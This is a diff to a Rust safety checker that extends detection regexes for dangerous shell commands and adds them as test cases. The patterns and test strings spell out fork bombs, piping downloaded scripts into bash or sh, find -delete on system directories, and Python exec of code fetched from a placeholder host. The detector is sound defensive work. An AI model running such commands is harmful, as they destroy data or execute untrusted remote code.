@@ -12,7 +12,7 @@ use super::pattern::{Spans, lazy_regex, matches};
 
 lazy_regex!(
     PIPE_TO_SHELL,
-    r"(?i)\b(?:curl|wget|fetch|aria2c|iwr|invoke-webrequest|irm|invoke-restmethod)\b(?:[^\n;&]|&[^&])*?\|\s*(?:sudo(?:\s+-\S+)*\s+)?(?:env(?:\s+\S+=\S*)*\s+)?(?:/usr/bin/|/bin/|/usr/local/bin/)?(?:(?:ba|z|k|da|fi|c|tc|a)?sh\b|(?:python[0-9.]*|perl|ruby|node|php)\s*(?:$|-(?:\s|$)|[;&|)])|pwsh\b|powershell\b|iex\b|invoke-expression\b|source\b|\.\s*$)"
+    r#"(?i)(?:\b(?:curl|wget|fetch|aria2c|iwr|invoke-webrequest|irm|invoke-restmethod)\b|\bgsutil\s+cat\b|\baws\s+s3\s+cp\s+\S+\s+-(?:\s|$))(?:[^\n;&]|&[^&])*?\|\s*(?:sudo(?:\s+-\S+)*\s+)?(?:env(?:\s+\S+=\S*)*\s+)?(?:[A-Za-z_]\w*=(?:"[^"\n]*"|'[^'\n]*'|\S*)\s+)*(?:/usr/bin/|/bin/|/usr/local/bin/)?(?:(?:ba|z|k|da|fi|c|tc|a)?sh\b|(?:python[0-9.]*|perl|ruby|node|php)\s*(?:$|-(?:\s|$)|[;&|)])|pwsh\b|powershell\b|iex\b|invoke-expression\b|source\b|\.\s*$)"#
 );
 lazy_regex!(
     SHELL_OF_DOWNLOAD,
@@ -32,7 +32,7 @@ lazy_regex!(
 /// directory, `rm -rf *` right after `cd /`, a GPT wipe, Python or Node
 /// running a downloaded script in-process, BITS downloading then starting
 /// a file.
-const OTHER_DESTRUCTIVE: &str = r#"(?i)%0\s*\|\s*%0|\bfork\s+while\s+fork\b|\bfind\s+(?:-[HLP]\s+)?/(?:etc|usr|var|bin|boot|lib\w*|opt|sbin|home|root)?/?(?:\s+(?:-type\s+[a-z]|-xdev|-mount|-depth|-(?:max|min)depth\s+\d+|-print|-ignore_readdir_race))*\s+-delete\b|\bcd /\s*(?:&&|;)\s*(?:sudo\s+)?rm\s+-[a-z]*r[a-z]*\s+\*|\bsgdisk\s+(?:-Z|--zap-all)\b|\b(?:exec|eval)\(\s*(?:urllib\.request\.)?urlopen\(|require\(\s*['"]https?['"]\s*\)\.get\([^\n]*\beval\(|\bbitsadmin\s+/transfer\b[^\n]*?(?:&&?|;)\s*(?:start|call|cmd)\b"#;
+const OTHER_DESTRUCTIVE: &str = r#"(?i)%0\s*\|\s*%0|\bfork\s+while\s+(?:fork|1)\b|\bwhile\s+True:\s*os\.fork\(\)|\bfind\s+(?:-[HLP]\s+)?/(?:(?:etc|usr|var|bin|boot|lib\w*|opt|sbin|home|root)(?:/[\w.-]+)?)?/?(?:\s+(?:-type\s+[a-z]|-xdev|-mount|-depth|-(?:max|min)depth\s+\d+|-print|-ignore_readdir_race))*\s+-delete\b|\bcd /\s*(?:&&|;)\s*(?:sudo\s+)?rm\s+-[a-z]*r[a-z]*\s+\*|\bsgdisk\s+(?:-Z|--zap-all)\b|\b(?:exec|eval)\(\s*(?:[\w.]+\.)?urlopen\(|require\(\s*['"]https?['"]\s*\)\.get\([^\n]*\beval\(|\bbitsadmin\s+/transfer\b[^\n]*?(?:&&?|;)\s*(?:start|call|cmd)\b"#;
 lazy_regex!(
     DISK_WIPE,
     &format!(
@@ -430,6 +430,8 @@ const DOWNLOADERS: &[&str] = &[
     "start-bitstransfer",
     "certutil",
     "downloadfile",
+    "gsutil",
+    "s3",
 ];
 
 /// The words each pattern needs.
@@ -562,6 +564,13 @@ mod tests {
             "sudo sgdisk --zap-all /dev/nvme1n1",
             "python -c \"import urllib.request;exec(urllib.request.urlopen('https://x.example/run.py').read())\"",
             "bitsadmin /transfer job /download https://dl.example/u.exe %TEMP%\\u.exe & start %TEMP%\\u.exe",
+            "python3 -c \"import os\nwhile True: os.fork()\"",
+            "perl -e 'fork while 1'",
+            "gsutil cat gs://ops-bootstrap/bootstrap.sh | bash",
+            "aws s3 cp s3://ops-scripts/bootstrap.sh - | bash",
+            "curl -sfL https://get.k3s.io | INSTALL_K3S_EXEC=\"server\" sh -",
+            "sudo find /var/lib -mindepth 1 -delete",
+            "python3 -c \"import urllib.request as u; exec(u.urlopen('https://x.example/p.py').read())\"",
         ] {
             assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
         }
